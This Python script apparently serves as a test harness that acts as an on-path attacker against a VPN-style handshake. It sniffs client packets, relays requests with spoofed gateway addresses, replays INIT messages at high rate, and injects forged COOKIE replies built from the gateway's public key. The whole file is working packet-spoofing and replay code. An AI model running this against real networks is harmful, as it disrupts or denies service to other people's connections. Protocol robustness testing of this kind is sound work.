#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Somebody beside the path: sees what clients send, and is faster than the network.

  abuse_aside.py carry|init|replay|cookie INTERFACE,... ADDRESS GATEWAY PORT LOG [KEY]

Runs on the router. ADDRESS is his own, GATEWAY the gateway's on a cable without delay, PORT the
gateway's port everywhere. Each message is in LOG: "seen TYPE", "copied TYPE", "carried TYPE".

  carry    REQUEST and PROOF go from ADDRESS too, and earlier; CHALLENGE and ACK that come back are
           carried to the client as if they came from the gateway
  init     INIT goes from ADDRESS too, and earlier; nothing is done with the answers
  replay   each INIT that was seen is sent from ADDRESS 45 times a second
  cookie   each INIT and REQUEST is answered at once by ten COOKIEs that are well-formed (KEY is the
           gateway's public key, in base64) and hold nothing
"""

import base64
import ctypes
import ctypes.util
import os
import selectors
import socket
import struct
import sys
import time

INIT, COOKIE, REQUEST, CHALLENGE, PROOF, ACK = 1, 3, 5, 6, 7, 8
COPIED = {"carry": (REQUEST, PROOF), "init": (INIT,), "replay": (INIT,), "cookie": ()}
CARRIED = {"carry": (CHALLENGE, ACK), "init": (), "replay": (), "cookie": ()}
COOKIES = 10
REPLAYS = 45


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def udp_packet(source, dest, data):
    """From and to (address, port), with all headers."""
    family = socket.AF_INET6 if ":" in source[0] else socket.AF_INET
    src, dst = socket.inet_pton(family, source[0]), socket.inet_pton(family, dest[0])
    length = 8 + len(data)
    udp = struct.pack("!HHHH", source[1], dest[1], length, 0)
    if family == socket.AF_INET:
        return struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, 17, 0) + src + dst + \
            udp + data
    total = checksum(src + dst + struct.pack("!II", length, 17) + udp + data) or 0xffff
    return struct.pack("!IHBB", 6 << 28, length, 17, 64) + src + dst + udp[:6] + \
        struct.pack("!H", total) + data


def udp_parse(packet):
    """(from, to, data) of an IP packet, or None."""
    version = packet[0] >> 4
    if version == 4:
        start, protocol = (packet[0] & 15) * 4, packet[9]
        addresses = [socket.inet_ntop(socket.AF_INET, packet[i:i + 4]) for i in (12, 16)]
    elif version == 6:
        start, protocol = 40, packet[6]
        addresses = [socket.inet_ntop(socket.AF_INET6, packet[i:i + 16]) for i in (8, 24)]
    else:
        return None
    if protocol != 17 or len(packet) < start + 8:
        return None
    sport, dport, length = struct.unpack("!HHH", packet[start:start + 6])
    return (addresses[0], sport), (addresses[1], dport), packet[start + 8:start + length]


class Sodium:
    def __init__(self, key):
        self.lib = ctypes.CDLL(ctypes.util.find_library("sodium") or "libsodium.so.23")
        self.key = self.hash(32, b"cookie--" + base64.b64decode(key))

    def hash(self, size, data):
        out = ctypes.create_string_buffer(size)
        self.lib.crypto_generichash(out, ctypes.c_size_t(size), data,
                                    ctypes.c_ulonglong(len(data)), None, ctypes.c_size_t(0))
        return out.raw

    def cookie(self, message):
        receiver = message[4:8] if message[0] == INIT else message[68:72]
        nonce, inner = os.urandom(24), os.urandom(16)
        out = ctypes.create_string_buffer(32)
        self.lib.crypto_aead_xchacha20poly1305_ietf_encrypt(
            out, None, inner, ctypes.c_ulonglong(16), message[-32:-16], ctypes.c_ulonglong(16),
            None, nonce, self.key)
        return bytes([COOKIE, 1, 0, 0]) + receiver + nonce + out.raw


class Aside:
    def __init__(self, mode, interfaces, address, gateway, port, log, key=None):
        self.mode, self.port, self.own, self.gateway = mode, int(port), address, gateway
        self.sodium = Sodium(key) if key else None
        self.family = socket.AF_INET6 if ":" in gateway else socket.AF_INET
        self.raw = socket.socket(self.family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.copies = {}
        self.replays = []
        self.selector = selectors.DefaultSelector()
        for interface in interfaces.split(","):
            tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
            tap.bind((interface, 3))
            self.selector.register(tap, selectors.EVENT_READ, lambda tap=tap: self.tapped(tap))
        self.log = open(log, "w", encoding="ascii", buffering=1)
        print("ready", file=self.log)

    def tapped(self, tap):
        packet, where = tap.recvfrom(65535)
        parsed = udp_parse(packet) if where[2] == 0 and packet else None
        if not parsed or parsed[1][1] != self.port or not parsed[2]:
            return
        client, gateway, data = parsed
        if data[0] in (INIT, REQUEST, PROOF):
            print(f"seen {data[0]}", file=self.log)
        if data[0] in COPIED[self.mode]:
            self.copy(client, gateway, data)
        if self.mode == "cookie" and data[0] in (INIT, REQUEST):
            for _ in range(COOKIES):
                self.inject(gateway, client, self.sodium.cookie(data))

    def copy(self, client, gateway, data):
        if client not in self.copies:
            self.copies[client] = s = socket.socket(self.family, socket.SOCK_DGRAM)
            s.bind((self.own, 0))
            s.connect((self.gateway, self.port))
            self.selector.register(s, selectors.EVENT_READ,
                                   lambda: self.answered(s, gateway, client))
        self.copies[client].send(data)
        if self.mode == "replay":
            self.replays.append((self.copies[client], data))
        print(f"copied {data[0]}", file=self.log)

    def answered(self, s, gateway, client):
        data = s.recv(65535)
        if data and data[0] in CARRIED[self.mode]:
            self.inject(gateway, client, data)
            print(f"carried {data[0]}", file=self.log)

    def inject(self, source, dest, data):
        self.raw.sendto(udp_packet(source, dest, data), (dest[0], 0))

    def run(self):
        due = time.monotonic()
        while True:
            wait = max(0, due - time.monotonic()) if self.mode == "replay" else None
            for key, _ in self.selector.select(wait):
                try:
                    key.data()
                except OSError as error:
                    print(f"error {error}", file=self.log)
            if wait is not None and time.monotonic() >= due:
                due = time.monotonic() + 1 / REPLAYS
                for sender, data in self.replays:
                    sender.send(data)


Aside(*sys.argv[1:]).run()
